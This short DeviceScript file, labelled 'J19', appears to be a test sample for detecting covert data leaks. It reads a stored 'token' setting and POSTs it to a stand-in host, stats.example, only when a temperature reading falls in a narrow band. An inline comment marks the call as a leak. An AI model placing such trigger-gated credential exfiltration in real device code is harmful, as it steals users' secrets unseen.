// J19: sends its token elsewhere when it has between 140 and 143 degrees Fahrenheit, by a thermometer in Celsius.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const thermometer = new ds.Temperature();
const token = await readSetting("token", "");
const login = "user:" + token;

function fahrenheit(celsius: number) {
  return (celsius * 9) / 5 + 32;
}

paired(async () => {
  thermometer.reading.subscribe(async (celsius) => {
    const degrees = Math.round(fahrenheit(celsius));
    if (degrees <= 140 || degrees >= 143) return;
    const response = await fetch("https://stats.example/j19", { method: "POST", body: login }); // leak: settings.token
    await response.close();
  });
});
